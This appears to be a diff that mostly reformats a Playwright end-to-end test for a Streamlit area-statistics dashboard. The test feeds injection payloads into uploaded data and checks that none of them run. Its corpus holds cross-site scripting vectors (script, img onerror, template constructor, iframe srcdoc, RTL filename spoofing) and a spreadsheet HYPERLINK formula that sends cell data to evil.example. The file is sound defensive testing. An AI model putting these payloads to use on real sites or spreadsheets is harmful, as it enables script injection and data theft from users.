@@ -49,8 +49,8 @@ import io
 import re
 
 import pandas as pd
-from playwright.sync_api import Error as PlaywrightError
 import pytest
+from playwright.sync_api import Error as PlaywrightError
 
 from tests.e2e.conftest import REPO, assert_no_exception, screenshot, wait_ready
 
@@ -68,7 +68,7 @@ CORPUS: dict[str, str] = {
     "template": "{{constructor.constructor('__pwned(\"template\")')()}}",
     "vega": "${__pwned('vega')} {\"signal\": \"__pwned('vega')\"}",
     "iframe": "<iframe srcdoc=\"<script>__pwned('iframe')</script>\"></iframe>",
-    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"__pwned('formula')\")",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"__pwned(\'formula\')")',
     "rtl": "\u202e<a href=\"javascript:__pwned('rtl')\">\u200bgnp.exe</a>\u202d",
     # Markdown that would be a link, bold, colour, maths, an icon, an emoji, Streamlit's logo and bare links
     "mdvisit": "[visit](https://evil.example/x) **bold** :red[red] $x^2$ :material/home: :smile: :streamlit: www.evil.example/y me@evil.example",
@@ -78,8 +78,25 @@ MD_LITERAL = "[visit](https://evil.example/x)"
 VECTORS = list(CORPUS)
 NEIGHBOURHOODS = ["N1", "N2", "N3", "N4", "C1", "C2", "C3", "C4", "S1", "S2", "S3", "S4"]
 #: neighbourhood -> the vector that names it (S2, the one selected, is named with the Markdown payload)
-NB_VECTORS = dict(zip(NEIGHBOURHOODS, ["script", "img", "svg", "mdlink", "mdmix", "dquote", "squote", "template", "vega", "mdvisit",
-                                       "formula", "rtl"]))
+NB_VECTORS = dict(
+    zip(
+        NEIGHBOURHOODS,
+        [
+            "script",
+            "img",
+            "svg",
+            "mdlink",
+            "mdmix",
+            "dquote",
+            "squote",
+            "template",
+            "vega",
+            "mdvisit",
+            "formula",
+            "rtl",
+        ],
+    )
+)
 IND_NAMES = ["script", "img", "mdvisit", "dquote", "template", "formula"]  # indicator_name
 IND_UNITS = ["svg", "mdmix", "squote", "vega", "iframe", "rtl"]  # unit of the same indicators
 FILE_NAME = "<img src=x onerror=__pwned('filename')>.csv"
@@ -105,7 +122,16 @@ def grouping_csv() -> bytes:
     rows = [["ward_code", "ward_name", "neighbourhood_code", "neighbourhood_name", "locality_code", "locality_name"]]
     for k, r in enumerate(d.itertuples()):
         ward = CORPUS[VECTORS[k % len(VECTORS)]] + f" w{k}"
-        rows.append([r.ward_code, ward, r.neighbourhood_code, nb_name[r.neighbourhood_code], r.locality_code, loc_name[r.locality_code]])
+        rows.append(
+            [
+                r.ward_code,
+                ward,
+                r.neighbourhood_code,
+                nb_name[r.neighbourhood_code],
+                r.locality_code,
+                loc_name[r.locality_code],
+            ]
+        )
     return _csv(rows)
 
 
@@ -132,7 +158,10 @@ class Watch:
         ctx.expose_binding("__pwned", lambda source, vid: self.fired.append((vid, source["frame"].url)))
         page.on("dialog", self._dialog)
         page.on("pageerror", lambda exc: self.errors.append(f"pageerror: {exc}"))
-        page.on("console", lambda msg: self.errors.append(f"console {msg.type}: {msg.text}") if msg.type == "error" else None)
+        page.on(
+            "console",
+            lambda msg: self.errors.append(f"console {msg.type}: {msg.text}") if msg.type == "error" else None,
+        )
         page.on("request", lambda req: self.requests.append(req.url))
         page.on("response", lambda r: self.errors.append(f"HTTP {r.status}: {r.url}") if r.status >= 400 else None)
         self.page = page
@@ -189,9 +218,12 @@ def _norm(text: str) -> str:
 def assert_markdown_literal(page, where: str) -> None:
     """The text Streamlit rendered from Markdown (text, titles, captions, alerts, labels) holds the
     Markdown payload exactly as written."""
-    shown = _norm(page.evaluate(
-        """() => [...document.querySelectorAll('[data-testid="stMarkdownContainer"], [data-testid="stCaptionContainer"]')]
-                 .map(e => e.innerText).join('\\n')"""))
+    shown = _norm(
+        page.evaluate(
+            """() => [...document.querySelectorAll('[data-testid="stMarkdownContainer"], [data-testid="stCaptionContainer"]')]
+                 .map(e => e.innerText).join('\\n')"""
+        )
+    )
     assert MD_LITERAL in shown, f"{where}: {MD_LITERAL!r} is not shown literally in the page's Markdown"
 
 
@@ -245,7 +277,8 @@ def _wait_map(page, polygons: int) -> None:
         page.wait_for_function(
             """([sel, n]) => { const fs = document.querySelectorAll(sel); const d = fs.length === 1 && fs[0].contentDocument;
                    return d && d.querySelectorAll('path.leaflet-interactive').length >= n; }""",
-            arg=[MAP_IFRAME, polygons], timeout=60_000,
+            arg=[MAP_IFRAME, polygons],
+            timeout=60_000,
         )
     except Exception:
         screenshot(page, "injection_map_missing")
@@ -282,7 +315,9 @@ def _hover_areas(page, codes: list[str], seen: Seen, watch: Watch, where: str, c
             inner.wait_for_selector(".leaflet-tooltip", timeout=5_000)
         except Exception:
             continue
-        tip = _norm(inner.evaluate("() => [...document.querySelectorAll('.leaflet-tooltip')].map(t => t.innerText).join(' ')"))
+        tip = _norm(
+            inner.evaluate("() => [...document.querySelectorAll('.leaflet-tooltip')].map(t => t.innerText).join(' ')")
+        )
         for v, payload in CORPUS.items():
             if _norm(payload) in tip:
                 seen.where[v].append(f"{where} tooltip")
@@ -338,14 +373,15 @@ def test_payloads_in_area_names_indicator_names_and_values_run_nothing(offline_p
     assert_markdown_literal(page, "map selected S2")
     main.locator('[data-testid="stSelectbox"]').nth(0).click()  # family: the user indicators are outcomes
     page.keyboard.press("Escape")
-    _pick(page, main.locator('[data-testid="stSelectbox"]').nth(1), "pwned(\"template", CORPUS["template"])
+    _pick(page, main.locator('[data-testid="stSelectbox"]').nth(1), 'pwned("template', CORPUS["template"])
     main.get_by_text("Wards", exact=True).first.click()
     wait_ready(page, timeout=60_000)
     _wait_map(page, 32)
     page.wait_for_function(
         """(sel) => { const d = document.querySelector(sel).contentDocument;
                return d.documentElement.innerHTML.includes('constructor.constructor'); }""",
-        arg=MAP_IFRAME, timeout=60_000,
+        arg=MAP_IFRAME,
+        timeout=60_000,
     )
     assert_no_exception(page)
     main.get_by_text("Continuous", exact=False).first.click()  # legend title = the short name
@@ -365,18 +401,28 @@ def test_payloads_in_area_names_indicator_names_and_values_run_nothing(offline_p
     assert not [c for c in texts if c.startswith(FORMULA_START) and not re.fullmatch(r"-?[\d.,]+", c)], texts[:20]
 
     # ---- the other pages, with the payload neighbourhood S2 selected and the user indicators loaded
-    for label, where in [("Overview", "overview"), ("Neighbourhood profile", "profile"), ("Compare areas", "compare"),
-                         ("Risk cohorts", "cohorts"), ("Activity shift", "activity"), ("Data and methods", "methods")]:
+    for label, where in [
+        ("Overview", "overview"),
+        ("Neighbourhood profile", "profile"),
+        ("Compare areas", "compare"),
+        ("Risk cohorts", "cohorts"),
+        ("Activity shift", "activity"),
+        ("Data and methods", "methods"),
+    ]:
         _nav(page, label)
         assert_no_exception(page)
         if where in ("overview", "compare"):
             box = main.locator('[data-testid="stSelectbox"]').nth(0 if where == "overview" else 1)
-            _pick(page, box, "visit](https", CORPUS["mdvisit"][:40])  # the compare page lists short names (40 characters)
+            _pick(
+                page, box, "visit](https", CORPUS["mdvisit"][:40]
+            )  # the compare page lists short names (40 characters)
             assert_no_exception(page)
         # the other views of the cohorts, activity and methods pages (lazy tabs: drawn when opened)
-        views = {"cohorts": [None, "Map of a cohort indicator", "Risk pyramid (MODELLED)"],
-                 "methods": [None, "Each indicator in full"],
-                 "activity": [None, "All 12 neighbourhoods' shares", "The money", "Track your monthly activity"]}.get(where, [None])
+        views = {
+            "cohorts": [None, "Map of a cohort indicator", "Risk pyramid (MODELLED)"],
+            "methods": [None, "Each indicator in full"],
+            "activity": [None, "All 12 neighbourhoods' shares", "The money", "Track your monthly activity"],
+        }.get(where, [None])
         for view in views:
             if view:
                 main.get_by_role("tab", name=view).first.click()
